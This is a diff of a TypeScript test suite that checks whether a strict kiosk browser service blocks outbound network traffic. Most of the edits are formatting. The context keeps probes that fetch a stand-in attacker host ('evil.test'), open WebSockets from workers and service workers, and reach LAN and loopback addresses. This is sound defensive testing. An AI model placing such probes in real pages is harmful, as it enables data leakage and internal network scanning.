@@ -1,5 +1,5 @@
-import { helpersOf, kill } from '../drive/processes.ts';
 import type { Play } from '../drive/play.ts';
+import { helpersOf, kill } from '../drive/processes.ts';
 import type { Vector } from '../vector.ts';
 
 const evil = 'http://evil.test';
@@ -63,7 +63,8 @@ export const network: readonly Vector[] = [
     title: 'a WebSocket of the page or of a worker',
     expects: 'on a strict service none opens',
     quick: true,
-    run: (play) => onStrict(play, `${socket('page')} new Worker(${JSON.stringify(worker(socket('worker')))});`),
+    run: (play) =>
+      onStrict(play, `${socket('page')} new Worker(${JSON.stringify(worker(socket('worker')))});`),
   },
   {
     ...common,
@@ -139,7 +140,10 @@ ${serviceWorker(`${socket('service-worker')} fetch('${evil}/?by=service-worker',
 report('printer', await Promise.race([fetch('http://192.168.0.1/', { mode: 'no-cors' }).then(() => 'reached', (error) => error.name), new Promise((resolve) => setTimeout(resolve, 1500, 'waiting'))]));`;
       for (const tile of ['pages', 'secure'] as const) {
         await play.after(tile, { script, wait: 1_800 });
-        play.expect((await play.reported('printer')) === 'TypeError', 'a request for 192.168.0.1 was let out');
+        play.expect(
+          (await play.reported('printer')) === 'TypeError',
+          'a request for 192.168.0.1 was let out',
+        );
       }
     },
   },
@@ -166,12 +170,16 @@ ${serviceWorker(`new WebSocket('ws://127.0.0.1:${tcpPort}/socket'); new WebSocke
     expects: 'the new one is guarded like the old one',
     async run(play) {
       await play.open('strict');
-      const networkProcesses = helpersOf(play.terminal.pid, 'network');
+      const networkProcesses = helpersOf(play.terminal.sessionPid, 'network');
       play.expect(networkProcesses.length > 0, 'no network process was found');
       kill(networkProcesses);
       await play.pause(1_500);
       await play.goHome();
-      await onStrict(play, `${everyRequest} ${serviceWorker(`${socket('after')} report('worker ran');`)}`, 2_500);
+      await onStrict(
+        play,
+        `${everyRequest} ${serviceWorker(`${socket('after')} report('worker ran');`)}`,
+        2_500,
+      );
       await play.reported('worker ran');
     },
   },
@@ -199,7 +207,7 @@ ${serviceWorker(`new WebSocket('ws://127.0.0.1:${tcpPort}/socket'); new WebSocke
     group,
     id: 'V48',
     title: 'what gets past everything above, below the browser',
-    setting: 'Windows Firewall for the kiosk’s program: outbound UDP denied, other connections by an allow-list',
+    setting:
+      'Windows Firewall for the kiosk’s program: outbound UDP denied, other connections by an allow-list',
   },
 ] satisfies readonly Vector[];
-
